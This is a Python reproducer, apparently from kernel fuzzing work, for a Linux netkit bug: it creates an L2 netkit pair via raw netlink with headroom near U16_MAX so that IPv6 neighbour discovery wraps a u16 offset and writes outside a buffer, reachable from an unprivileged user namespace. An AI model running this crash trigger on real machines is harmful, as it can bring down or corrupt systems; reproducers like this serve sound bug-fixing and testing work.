#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0
"""Reproducer of a kernel crash that `make fuzz` found, C and Rust netkit
alike: an L2 netkit pair with IFLA_NETKIT_HEADROOM near U16_MAX, both ends
up. LL_RESERVED_SPACE() of the device then exceeds 65535, and the first
IPv6 ND packet (addrconf_dad_work -> ndisc_send_skb) reserves that much
headroom, so skb->network_header, a u16 offset, wraps; neigh_resolve_output
pulls to the wrapped offset and eth_header() writes outside the buffer.

Usage: repro_headroom.py [HEADROOM] (default 65535). Runs in a netns of its
own; prints "survived" if the kernel is still up 10 s after both ends are.
It needs no privilege beyond a user namespace of its own:
  setpriv --reuid=65534 --regid=65534 --clear-groups unshare -Urn repro_headroom.py
"""

import os
import socket
import struct
import subprocess
import sys
import time

RTM_NEWLINK = 16
NLM_F_REQUEST, NLM_F_ACK, NLM_F_EXCL, NLM_F_CREATE = 1, 4, 0x200, 0x400
IFLA_IFNAME, IFLA_LINKINFO = 3, 18
IFLA_INFO_KIND, IFLA_INFO_DATA = 1, 2
IFLA_NETKIT_PEER_INFO, IFLA_NETKIT_MODE, IFLA_NETKIT_HEADROOM = 1, 5, 8
NETKIT_L2 = 0


def attr(t, payload):
    ln = 4 + len(payload)
    return struct.pack("HH", ln, t) + payload + b"\0" * ((4 - ln % 4) % 4)


def ifinfo():
    return struct.pack("BxHiII", 0, 0, 0, 0, 0)


def main():
    headroom = int(sys.argv[1]) if len(sys.argv) > 1 else 65535
    os.unshare(os.CLONE_NEWNET)
    peer = ifinfo() + attr(IFLA_IFNAME, b"nkh1\0")
    data = (attr(IFLA_NETKIT_MODE, struct.pack("I", NETKIT_L2)) +
            attr(IFLA_NETKIT_HEADROOM, struct.pack("H", headroom)) +
            attr(IFLA_NETKIT_PEER_INFO, peer))
    body = ifinfo() + attr(IFLA_IFNAME, b"nkh0\0") + attr(
        IFLA_LINKINFO, attr(IFLA_INFO_KIND, b"netkit\0") + attr(IFLA_INFO_DATA, data))
    flags = NLM_F_REQUEST | NLM_F_ACK | NLM_F_CREATE | NLM_F_EXCL
    sk = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, socket.NETLINK_ROUTE)
    sk.send(struct.pack("IHHII", 16 + len(body), RTM_NEWLINK, flags, 1, 0) + body)
    err = struct.unpack_from("i", sk.recv(4096), 16)[0]
    if err:
        sys.exit("newlink: %s" % os.strerror(-err))
    for dev in ("nkh0", "nkh1"):
        subprocess.run(["ip", "link", "set", dev, "up"], check=True)
    print("netkit L2 pair with headroom %d up; waiting for IPv6 ND" % headroom, flush=True)
    time.sleep(10)
    print("survived", flush=True)


if __name__ == "__main__":
    main()
